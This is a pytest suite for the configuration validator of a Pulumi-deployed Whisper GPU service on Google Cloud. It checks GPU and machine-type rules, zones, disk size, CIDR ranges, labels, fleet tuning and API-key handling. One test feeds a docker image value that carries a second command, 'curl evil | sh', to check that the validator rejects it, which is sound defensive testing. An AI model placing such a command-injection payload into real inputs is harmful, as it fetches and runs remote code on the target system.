"""infra/config.py (with config_values, config_gpu and config_fleet) on its own: the typed stack config and
every validation rule."""

from __future__ import annotations

import dataclasses
import re
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
GCP = {"project": "demo-project"}


def build(infra_config, values=None, gcp=None, stack="dev"):
    return infra_config.StackConfig.from_mapping(values or {}, {**GCP, **(gcp or {})}, stack)


def test_defaults_are_one_t4_on_n1_in_us_central1(infra_config):
    cfg = build(infra_config)
    assert (cfg.machine_type, cfg.gpu_type, cfg.gpu_count) == ("n1-standard-8", "nvidia-tesla-t4", 1)
    assert (cfg.zone, cfg.region, cfg.project) == ("us-central1-a", "us-central1", "demo-project")
    assert cfg.spot is False
    assert cfg.boot_disk_gb == 100
    assert cfg.image == "ubuntu-os-cloud/ubuntu-2204-lts"
    assert cfg.ssh_source_ranges == ("35.235.240.0/20",)
    assert cfg.http_source_ranges == ("0.0.0.0/0",)
    assert cfg.domain is None and cfg.allow_unauthenticated is False
    assert cfg.labels == {"app": "whisper"}
    assert cfg.mode == "vm" and cfg.fleet is None
    assert cfg.attaches_gpus is True


def test_config_is_frozen(infra_config):
    cfg = build(infra_config)
    with pytest.raises(dataclasses.FrozenInstanceError):
        cfg.gpu_count = 8


def test_every_attached_gpu_accepts_exactly_its_offered_counts(infra_config):
    for gpu, spec in infra_config.GPUS.items():
        if spec.family not in infra_config.ATTACHED_FAMILIES:
            continue
        for count in range(0, 10):
            values = {"gpuType": gpu, "gpuCount": str(count), "machineType": spec.example_machine}
            if count in spec.counts:
                assert build(infra_config, values).gpu_count == count
            else:
                with pytest.raises(infra_config.ConfigError, match=r"^config gpuCount: "):
                    build(infra_config, values)


def test_every_bundled_machine_implies_its_gpu_type_and_count(infra_config):
    for machine, (gpu, count) in infra_config.BUNDLED_MACHINES.items():
        spot = "true" if machine in infra_config.SPOT_ONLY_MACHINES else "false"
        cfg = build(infra_config, {"machineType": machine, "spot": spot}, gcp={"zone": "europe-west4-a"})
        assert (cfg.gpu_type, cfg.gpu_count, cfg.attaches_gpus) == (gpu, count, False)
        assert count in infra_config.GPUS[gpu].counts


@pytest.mark.parametrize(
    ("gpu", "machine"),
    [
        ("nvidia-tesla-t4", "g2-standard-8"),
        ("nvidia-a100-80gb", "g2-standard-8"),
        ("nvidia-l4", "n1-standard-8"),
        ("nvidia-tesla-a100", "g2-standard-8"),
        ("nvidia-h100-80gb", "a2-highgpu-1g"),
        ("nvidia-tesla-t4", "e2-standard-8"),
    ],
)
def test_gpu_on_the_wrong_machine_family_names_a_machine_that_works(infra_config, gpu, machine):
    with pytest.raises(infra_config.ConfigError) as failure:
        build(infra_config, {"gpuType": gpu, "machineType": machine})
    example = infra_config.GPUS[gpu].example_machine
    assert str(failure.value) == (
        f"config machineType: {machine!r} cannot carry {gpu}, which runs only on "
        f"{infra_config.GPUS[gpu].family} machines; e.g. machineType: {example}"
    )
    # The suggestion itself is valid.
    assert build(infra_config, {"gpuType": gpu, "machineType": example}, {"zone": "asia-east1-a"})


@pytest.mark.parametrize(
    ("gpu", "architecture"),
    [("nvidia-tesla-v100", "Volta"), ("nvidia-tesla-p100", "Pascal"), ("nvidia-tesla-p4", "Pascal")],
)
def test_pre_turing_gpus_are_refused_naming_the_supported_types(infra_config, gpu, architecture):
    with pytest.raises(infra_config.ConfigError) as failure:
        build(infra_config, {"gpuType": gpu, "machineType": "n1-standard-8"})
    message = str(failure.value)
    assert message.startswith(f"config gpuType: {gpu} ({architecture}) is older than Turing"), message
    assert message.endswith(
        "use one of nvidia-tesla-t4, nvidia-l4, nvidia-tesla-a100, nvidia-a100-80gb, nvidia-h100-80gb"
    )
    assert "\n" not in message


def test_bundled_machine_with_the_wrong_gpu_type_of_its_family(infra_config):
    with pytest.raises(infra_config.ConfigError, match="use gpuType: nvidia-a100-80gb"):
        build(infra_config, {"machineType": "a2-ultragpu-1g", "gpuType": "nvidia-tesla-a100"})


@pytest.mark.parametrize("zone", ["us-central1", "US-CENTRAL1-A", "uscentral1-a", "europe-west4-ab"])
def test_zone_format(infra_config, zone):
    with pytest.raises(infra_config.ConfigError, match=r"^config gcp:zone: .*e\.g\. gcp:zone: "):
        build(infra_config, gcp={"zone": zone})


def test_region_must_contain_the_zone(infra_config):
    assert build(infra_config, gcp={"zone": "europe-west4-b", "region": "europe-west4"})
    with pytest.raises(infra_config.ConfigError, match="use gcp:region: europe-west4"):
        build(infra_config, gcp={"zone": "europe-west4-b", "region": "us-central1"})


def test_disk_must_hold_the_cuda_image_and_models(infra_config):
    minimum = infra_config.MIN_BOOT_DISK_GB
    assert build(infra_config, {"bootDiskGb": str(minimum)}).boot_disk_gb == minimum
    with pytest.raises(infra_config.ConfigError, match=f"use at least {minimum}"):
        build(infra_config, {"bootDiskGb": str(minimum - 1)})
    with pytest.raises(infra_config.ConfigError, match="not a whole number"):
        build(infra_config, {"bootDiskGb": "lots"})


def test_ranges_accept_yaml_lists_and_comma_strings(infra_config):
    cfg = build(
        infra_config,
        {
            "sshSourceRanges": '["192.0.2.1/32", "198.51.100.0/24"]',
            "httpSourceRanges": "203.0.113.7/32, 2001:db8::/32",
        },
    )
    assert cfg.ssh_source_ranges == ("192.0.2.1/32", "198.51.100.0/24")
    assert cfg.http_source_ranges == ("203.0.113.7/32", "2001:db8::/32")
    with pytest.raises(infra_config.ConfigError, match="'10.0.0.1/8' is not a CIDR range"):
        build(infra_config, {"httpSourceRanges": "10.0.0.1/8"})  # host bits set: a typo


def test_labels_merge_over_the_app_label_and_follow_gcp_rules(infra_config):
    cfg = build(infra_config, {"labels": '{"team": "speech", "cost-center": "r_d-7"}'})
    assert cfg.labels == {"app": "whisper", "team": "speech", "cost-center": "r_d-7"}
    for bad in ('{"Team": "x"}', '{"team": "Speech"}', '{"9lives": "x"}', '["team"]', "team"):
        with pytest.raises(infra_config.ConfigError, match=r"^config labels: "):
            build(infra_config, {"labels": bad})


def test_docker_image_reference(infra_config):
    assert build(infra_config, {"dockerImage": "ghcr.io/me/w:1.0"}).docker_image == "ghcr.io/me/w:1.0"
    with pytest.raises(infra_config.ConfigError, match="^config dockerImage: "):
        build(infra_config, {"dockerImage": "me/w:1; curl evil | sh"})


@pytest.mark.parametrize(
    ("stack", "prefix"),
    [("dev", "whisper-dev"), ("Prod_EU", "whisper-prod-eu"), ("a" * 40, "whisper-" + "a" * 16)],
)
def test_name_prefix_fits_gcp_service_account_ids(infra_config, stack, prefix):
    name = build(infra_config, stack=stack).name_prefix
    assert name == prefix
    assert re.fullmatch(r"[a-z][a-z0-9-]{4,28}[a-z0-9]", name)


def test_fixed_fleet_and_autoscaled_fleet(infra_config):
    fixed = build(
        infra_config, {"replicas": "3", "dockerImage": "me/w:1", "allowUnauthenticated": "true"}
    ).fleet
    assert (fixed.min_replicas, fixed.max_replicas, fixed.autoscaled) == (3, 3, False)
    scaled = build(
        infra_config, {"maxReplicas": "5", "dockerImage": "me/w:1", "allowUnauthenticated": "true"}
    )
    assert scaled.mode == "fleet"
    assert (scaled.fleet.min_replicas, scaled.fleet.max_replicas) == (1, 5)
    assert scaled.fleet.autoscaled is True
    assert scaled.fleet.zones == infra_config.KNOWN_GPU_ZONES[("us-central1", "nvidia-tesla-t4")]


@pytest.mark.parametrize(
    ("values", "key"),
    [
        ({"maxRatePerInstance": "0"}, "maxRatePerInstance"),
        ({"targetUtilization": "1.5"}, "targetUtilization"),
        ({"autohealInitialDelaySec": "4000"}, "autohealInitialDelaySec"),
        ({"cooldownSec": "5"}, "cooldownSec"),
        ({"requestTimeoutSec": "10"}, "requestTimeoutSec"),
        ({"fleetZones": "[not json"}, "fleetZones"),
    ],
)
def test_fleet_tuning_out_of_range(infra_config, values, key):
    with pytest.raises(infra_config.ConfigError, match=rf"^config {key}: .*e\.g\. "):
        build(
            infra_config, {"replicas": "2", "dockerImage": "me/w:1", "allowUnauthenticated": "true", **values}
        )


def test_api_key_is_kept_out_of_the_repr(infra_config):
    cfg = infra_config.StackConfig.from_mapping({}, GCP, "dev", api_key="sk-live-123")
    assert cfg.api_key == "sk-live-123"
    assert "sk-live-123" not in repr(cfg)


def test_config_errors_print_without_a_traceback_under_pulumi(infra_config):
    import pulumi

    # The language host prints a RunError's message alone; other exceptions get a traceback.
    assert issubclass(infra_config.ConfigError, pulumi.RunError)


EXAMPLE = (ROOT / "Pulumi.dev.yaml.example").read_text()
COMMENTED_KEY = re.compile(r"^  # ((?:whisper-gpu|gcp):\w+: .*)$", re.MULTILINE)


def test_the_example_stack_file_copied_as_is_sets_only_the_project():
    # A live example value (a domain, an image, labels) would be deployed by whoever copies the file.
    assert yaml.safe_load(EXAMPLE)["config"] == {"gcp:project": "my-project-id"}


def test_the_example_stack_files_single_vm_lines_uncommented_are_valid_and_known(infra_config):
    single_vm = EXAMPLE.split("# Fleet mode")[0]
    example = yaml.safe_load(COMMENTED_KEY.sub(r"  \1", single_vm))["config"]
    project_keys = {k.split(":", 1)[1]: v for k, v in example.items() if k.startswith("whisper-gpu:")}
    gcp_keys = {k.split(":", 1)[1]: v for k, v in example.items() if k.startswith("gcp:")}
    assert set(project_keys) <= set(infra_config.PROJECT_KEYS)
    cfg = infra_config.StackConfig.from_mapping(project_keys, gcp_keys, "dev")
    assert cfg.mode == "vm"
    assert cfg.labels == {"app": "whisper", "team": "speech"}
    assert cfg.domain == "whisper.example.com"


def test_every_key_the_program_reads_is_documented(infra_config):
    section = (ROOT / "docs" / "provisioning.md").read_text()  # the provisioning page, moved out of README
    example = (ROOT / "Pulumi.dev.yaml.example").read_text()
    for key in (*infra_config.PROJECT_KEYS, "apiKey"):
        assert f"`{key}`" in section, f"docs/provisioning.md does not document {key}"
        assert f"whisper-gpu:{key}" in example, f"Pulumi.dev.yaml.example lacks {key}"
    for key in infra_config.LOGIN_KEYS:
        assert f"`{key}`" in section, f"docs/provisioning.md does not document {key}"


def test_unknown_keys_are_rejected_with_the_nearest_known_key(infra_config):
    infra_config.reject_unknown_keys(["gpuType", "apiKey", "replicas"])
    with pytest.raises(infra_config.ConfigError, match="^config bootdisk: .*did you mean bootDiskGb"):
        infra_config.reject_unknown_keys(["bootdisk"])
    with pytest.raises(infra_config.ConfigError, match="known keys: machineType, gpuType"):
        infra_config.reject_unknown_keys(["colour"])


def test_make_deploy_reads_fleet_mode_from_the_same_keys(infra_config):
    from deploy.stack import FLEET_KEYS, mode

    for key in FLEET_KEYS:
        values = {key: "2", "dockerImage": "me/w:1", "allowUnauthenticated": "true"}
        values |= {"maxReplicas": "3"} if key == "minReplicas" else {}
        assert build(infra_config, values).mode == "fleet" == mode({f"whisper-gpu:{key}": {"value": "2"}})
    others = [k for k in infra_config.PROJECT_KEYS if k not in FLEET_KEYS]
    assert mode({f"whisper-gpu:{k}": {"value": "x"} for k in others}) == "vm"


def test_a_fleet_without_an_api_key_is_refused_unless_allowed(infra_config):
    fleet = {"replicas": "2", "dockerImage": "me/w:1"}
    with pytest.raises(infra_config.ConfigError) as failure:
        build(infra_config, fleet)
    assert str(failure.value) == (
        "config apiKey: not set, so the fleet would serve anyone; set one: "
        'pulumi config set --secret apiKey "$(openssl rand -hex 24)" (or allowUnauthenticated: true)'
    )
    assert build(infra_config, {**fleet, "allowUnauthenticated": "true"}).allow_unauthenticated
    keyed = infra_config.StackConfig.from_mapping(fleet, GCP, "dev", api_key="sk-1")
    assert keyed.mode == "fleet" and keyed.allow_unauthenticated is False


def test_domain_must_be_a_dns_name(infra_config):
    assert build(infra_config, {"domain": "whisper.example.com"}).domain == "whisper.example.com"
    for bad in ("https://whisper.example.com", "whisper", "Whisper.Example.com", "a_b.example.com"):
        with pytest.raises(infra_config.ConfigError, match=r"^config domain: .*e\.g\. domain: whisper"):
            build(infra_config, {"domain": bad})


def test_monitoring_source_ranges_is_refused_with_the_way_to_reach_grafana(infra_config):
    with pytest.raises(infra_config.ConfigError) as failure:
        infra_config.reject_unknown_keys(["monitoringSourceRanges"])
    assert str(failure.value).startswith("config monitoringSourceRanges: Grafana and Prometheus listen on")
    assert "make dashboards" in str(failure.value)
